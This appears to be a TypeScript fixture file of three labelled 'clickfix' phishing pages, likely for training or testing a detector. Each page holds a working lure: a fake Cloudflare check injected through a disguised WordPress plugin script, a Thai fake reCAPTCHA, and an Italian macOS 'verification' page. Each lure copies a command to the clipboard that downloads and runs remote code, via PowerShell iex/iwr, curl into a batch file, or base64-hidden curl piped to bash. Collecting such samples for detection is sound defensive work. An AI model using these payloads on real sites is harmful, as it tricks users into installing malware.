import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { CSS, MARK, b64, codes, doc, esc } from '../parts/ys-kit.js';

export const entries: Entry[] = [
{
  id: 'ys-clickfix-cf-overlay-gym-site-en',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://www.harborlinefitness.com/class-schedule/',
  body: doc({
    title: 'Class Schedule – Harborline Fitness | Portland, ME',
    head: `<script src="/wp-content/plugins/wp-cache-helper/assets/js/v.min.js?ver=6.6.2" defer></script>`,
    css: `body{font-family:Montserrat,Arial,sans-serif;margin:0;color:#222}header{background:#0d2c3f;color:#fff;padding:18px 30px;display:flex;justify-content:space-between}table{border-collapse:collapse;margin:30px auto;max-width:900px;width:100%}td,th{border:1px solid #ddd;padding:10px}th{background:#f0f5f8}`,
    body: `<header><b>HARBORLINE FITNESS</b><span>Classes · Trainers · Memberships · Contact</span></header>
<h1 style="text-align:center">Weekly Class Schedule</h1>
<table><tr><th>Time</th><th>Mon</th><th>Tue</th><th>Wed</th><th>Thu</th><th>Fri</th></tr><tr><td>6:00</td><td>Spin</td><td>HIIT</td><td>Spin</td><td>HIIT</td><td>Yoga</td></tr><tr><td>12:15</td><td>Core 30</td><td>Pilates</td><td>Core 30</td><td>Pilates</td><td>Boxing</td></tr><tr><td>18:00</td><td>Strength</td><td>Zumba</td><td>Strength</td><td>Zumba</td><td>Open gym</td></tr></table>
<p style="text-align:center">Questions? Call the front desk at (207) 555-0148.</p>`,
  }),
  routes: {
    'www.harborlinefitness.com/wp-content/plugins/wp-cache-helper/assets/js/v.min.js': jsRoute(`(function(){
if(localStorage.getItem('__cfv')||/bot|crawl|spider/i.test(navigator.userAgent))return;
var cmd='powershell -w h -nop -c "iex(iwr \\'https://cf-verify-check.com/s/v2\\' -UseBasicParsing)" # \\u2705 I am not a robot - Cloudflare Verification ID: 448' + Math.floor(Math.random()*90000+10000);
var o=document.createElement('div');
o.style.cssText='position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:system-ui,-apple-system,Segoe UI,Arial;display:flex;align-items:center;justify-content:center';
o.innerHTML='<div style="max-width:560px;padding:30px"><h1 style="font-size:28px;font-weight:500">'+location.hostname+'</h1><p style="font-size:20px">Verify you are human by completing the action below.</p>'
+'<div id="cfb" style="display:flex;align-items:center;justify-content:space-between;border:1px solid #e0e0e0;background:#fafafa;padding:14px 18px;width:300px;cursor:pointer"><span style="display:flex;align-items:center;gap:12px"><span style="width:26px;height:26px;border:2px solid #666;border-radius:3px;background:#fff"></span>Verify you are human</span><span style="font-size:10px;color:#555">CLOUDFLARE<br>Privacy · Terms</span></div>'
+'<div id="cfs" style="display:none;margin-top:18px;border:1px solid #e0e0e0;padding:16px 20px;font-size:15px;line-height:1.9"><b>Verification steps</b><br>1. Press <b>Windows Button "\\u229e" + R</b><br>2. In the verification window, press <b>Ctrl + V</b><br>3. Press <b>Enter</b> on your keyboard to finish<br><span style="color:#777;font-size:13px">You will observe and agree: "I am not a robot - reCAPTCHA Verification ID: 44812"</span></div>'
+'<p style="color:#666;font-size:13px;margin-top:26px">'+location.hostname+' needs to review the security of your connection before proceeding.</p></div>';
document.body.appendChild(o);
document.getElementById('cfb').onclick=function(){
  var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
  try{navigator.clipboard.writeText(cmd)}catch(e){}
  document.getElementById('cfs').style.display='block';
  fetch('https://cf-verify-check.com/log?h='+location.hostname,{mode:'no-cors'}).catch(function(){});
};
})();`),
  },
},

{
  id: 'ys-clickfix-recaptcha-charcodes-th',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://tiktokshop-promo-th.com/checkin/',
  body: doc({
    lang: 'th',
    title: 'ยืนยันว่าคุณไม่ใช่โปรแกรมอัตโนมัติ',
    css: `body{font-family:Tahoma,Roboto,Arial,sans-serif;background:#f9f9f9;margin:0}.rc{width:310px;margin:18vh auto 0;border:1px solid #d3d3d3;border-radius:3px;background:#f9f9f9;box-shadow:0 0 4px 1px rgba(0,0,0,.08);padding:12px;display:flex;justify-content:space-between;align-items:center}.ch{width:28px;height:28px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}.lg{text-align:center;font-size:10px;color:#555}.st{max-width:420px;margin:18px auto;background:#fff;border:1px solid #ddd;padding:16px 20px;display:none;line-height:1.9}`,
    body: `<div class="rc"><div style="display:flex;align-items:center;gap:12px"><div class="ch" id="ch"></div><span>ฉันไม่ใช่โปรแกรมอัตโนมัติ</span></div><div class="lg"><img alt="" width="32" height="32" src="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32"><circle cx="16" cy="16" r="13" fill="none" stroke="#4a90e2" stroke-width="4"/><path d="M16 3a13 13 0 0 1 13 13" stroke="#1c3aa9" stroke-width="4" fill="none"/></svg>')}"><br>reCAPTCHA<br>ความเป็นส่วนตัว - ข้อกำหนด</div></div>
<div class="st" id="st"><b>ขั้นตอนการยืนยันเพิ่มเติม</b><br>1. กดปุ่ม <b>Windows + R</b><br>2. กด <b>Ctrl + V</b><br>3. กด <b>Enter</b> เพื่อยืนยัน<br><small style="color:#777">รหัสยืนยัน reCAPTCHA: 7731-TH</small></div>
<script>
var _=[${codes('cmd /c "curl -s https://tiktokshop-promo-th.com/cdn/v.txt -o %TEMP%\\v.bat && %TEMP%\\v.bat" & :: reCAPTCHA 7731-TH')}];
document.getElementById('ch').onclick=function(){
  var s=String.fromCharCode.apply(String,_);
  navigator.clipboard.writeText(s).catch(function(){var t=document.createElement('textarea');t.value=s;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});
  this.style.borderColor='#4a90e2';document.getElementById('st').style.display='block';
};
</script>`,
  }),
},

{
  id: 'ys-clickfix-macos-terminal-it',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://verifica-accesso-creatori.com/mac/',
  body: doc({
    lang: 'it',
    title: 'Verifica di sicurezza richiesta',
    css: CSS.reset + `body{font-family:-apple-system,"SF Pro Text","Helvetica Neue",sans-serif;background:#f5f5f7;color:#1d1d1f}.c{max-width:540px;margin:12vh auto;background:#fff;border-radius:18px;padding:34px;box-shadow:0 10px 40px rgba(0,0,0,.08)}.k{display:inline-block;border:1px solid #c7c7cc;border-bottom-width:3px;border-radius:5px;padding:0 7px;font-size:13px;background:#fafafa}button{background:#0071e3;color:#fff;border:0;border-radius:980px;padding:11px 24px;font-size:15px}.ok{color:#1a7f37;display:none}`,
    body: `<div class="c"><h2>Verifica che tu sia una persona reale</h2>
<p>Per accedere al portale pagamenti per creator di <b>Brandwave Italia</b> devi completare una breve verifica del dispositivo. È necessaria solo la prima volta.</p>
<ol style="line-height:2.1"><li>Premi <b>Copia codice di verifica</b></li><li>Apri Spotlight con <span class="k">⌘ Cmd</span> + <span class="k">Spazio</span>, scrivi <b>Terminale</b> e premi <span class="k">Invio</span></li><li>Incolla con <span class="k">⌘ Cmd</span> + <span class="k">V</span> e premi <span class="k">Invio</span></li><li>Se richiesto, inserisci la password del Mac per confermare</li></ol>
<button id="b">Copia codice di verifica</button> <span class="ok" id="ok">✓ Copiato</span>
<p style="font-size:12px;color:#86868b;margin-top:20px">ID verifica: BW-IT-55120 · La verifica scade tra 10 minuti.</p></div>
<script>
var v='echo "Verifica BW-IT-55120" && /bin/bash -c "$(echo ${b64('curl -fsSL https://verifica-accesso-creatori.com/mac/inst.sh | bash')} | base64 -d)"';
document.getElementById('b').onclick=function(){navigator.clipboard.writeText(v).then(function(){document.getElementById('ok').style.display='inline'})};
</script>`,
  }),
},
];
